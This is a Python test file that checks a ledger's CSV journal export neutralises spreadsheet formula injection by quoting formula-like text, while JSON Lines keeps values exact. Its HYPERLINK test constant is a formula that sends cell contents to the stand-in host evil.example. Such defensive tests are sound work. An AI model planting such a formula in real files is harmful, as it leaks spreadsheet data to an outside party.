"""CSV formula injection: text a caller chose (a partner's reference, a staff
adjustment's reason) that a spreadsheet would evaluate as a formula is
written to the CSV export with a leading single quote; numbers stay as they
are, JSON Lines keeps every value exact, and the control totals and the
SHA-256 describe the file as written."""

import csv
import hashlib
import io
import json
from types import SimpleNamespace

import pytest

from api.embedded import drop_database
from finance.journal_export import _CsvFormat, _Tally, csv_text
from finance.period import stamp
from ledger.commands import Adjust, Earn
from ledger.database import create_engine
from ledger.history import server_time
from ledger.service import LedgerService
from members.registry import MemberInput, Members
from partners.programme import Programme
from partners.registry import PartnerInput, Registry
from partners.signing_keys import SecretBox
from tests.conftest import TEST_SECRET_KEY
from tests.finance.conftest import ADMIN, config, fresh_database
from tests.finance.test_formats import row
from tests.finance.test_journal_export import loyalty

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        (HYPERLINK, "'" + HYPERLINK),
        ("goodwill: late delivery", "goodwill: late delivery"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        (-100, -100),
        (42, 42),
    ],
)
def test_csv_text(value, written):
    assert csv_text(value) == written


def test_the_csv_writer_neutralises_text_not_numbers():
    rows = [
        row(1, 10, "member:anna:available", "PTS", -100, HYPERLINK, breakdown="-1"),
        row(1, 11, "program:adjustments", "PTS", 100, HYPERLINK, breakdown="-1"),
    ]
    tally = _Tally()
    form = _CsvFormat(tally)
    data = form.header() + form.rows(rows) + form.end()
    parsed = list(csv.DictReader(io.StringIO(data.decode())))
    assert [p["reason"] for p in parsed] == ["'" + HYPERLINK] * 2
    assert [p["breakdown"] for p in parsed] == ["'-1"] * 2
    assert [p["amount"] for p in parsed] == ["-100", "100"]
    assert [p["entry_id"] for p in parsed] == ["1", "1"]
    assert tally.totals.assets["PTS"].debits == -100


@pytest.fixture(scope="module")
async def hostile(server_url):
    """A ledger whose text fields look like formulas."""
    name, url = await fresh_database(server_url)
    engine = create_engine(url, pool_size=2)
    try:
        ledger = LedgerService(engine, config())
        programme = Programme(ledger)
        await Registry(engine, SecretBox(TEST_SECRET_KEY)).create_partner(
            PartnerInput("shop", "Shop"), ADMIN
        )
        await Members(ledger, programme).enrol(MemberInput(id="eve"), ADMIN)
        async with engine.connect() as conn:
            start = await server_time(conn)
        await ledger.earn(Earn.simple("eve", "shop", "=1+2", 100))
        await ledger.adjust(Adjust("eve", -40, HYPERLINK), "staff:fiona")
        async with engine.connect() as conn:
            end = await server_time(conn)
        yield SimpleNamespace(url=url, start=start, end=end)
    finally:
        await engine.dispose()
        await drop_database(server_url, name)


async def export_file(hostile, tmp_path, fmt):
    path = tmp_path / f"journal.{fmt}"
    result = await loyalty(
        hostile, tmp_path, "finance", "export-journal", "--from", stamp(hostile.start),
        "--to", stamp(hostile.end), "--format", fmt, "--output", str(path),
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    return path, json.loads(path.with_name(path.name + ".totals.json").read_text())


async def test_the_csv_export_neutralises_formulas_and_jsonl_stays_exact(hostile, tmp_path):
    csv_path, csv_totals = await export_file(hostile, tmp_path, "csv")
    text = csv_path.read_text()
    assert "\n=" not in text and ",=" not in text and ',"=' not in text
    parsed = list(csv.DictReader(io.StringIO(text)))
    assert {p["partner_reference"] for p in parsed if p["kind"] == "earn"} == {"'=1+2"}
    assert {p["reason"] for p in parsed if p["kind"] == "adjust"} == {"'" + HYPERLINK}
    # Numbers are written as they are: the debits keep their minus sign.
    assert sorted(int(p["amount"]) for p in parsed) == [-100, -40, 40, 100]
    assert all(p["entry_id"].isdigit() and p["posting_id"].isdigit() for p in parsed)

    jsonl_path, jsonl_totals = await export_file(hostile, tmp_path, "jsonl")
    entries = [json.loads(line) for line in jsonl_path.read_text().splitlines()]
    assert [e["partner_reference"] for e in entries if e["kind"] == "earn"] == ["=1+2"]
    assert [e["reason"] for e in entries if e["kind"] == "adjust"] == [HYPERLINK]

    # The totals are numeric and the same for both forms; the SHA-256 is the file's.
    for key in ("entries", "postings", "assets"):
        assert csv_totals[key] == jsonl_totals[key], key
    assert csv_totals["assets"]["PTS"] == {"postings": 4, "debits": -140, "credits": 140}
    for path, totals in ((csv_path, csv_totals), (jsonl_path, jsonl_totals)):
        assert totals["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
        assert totals["bytes"] == path.stat().st_size
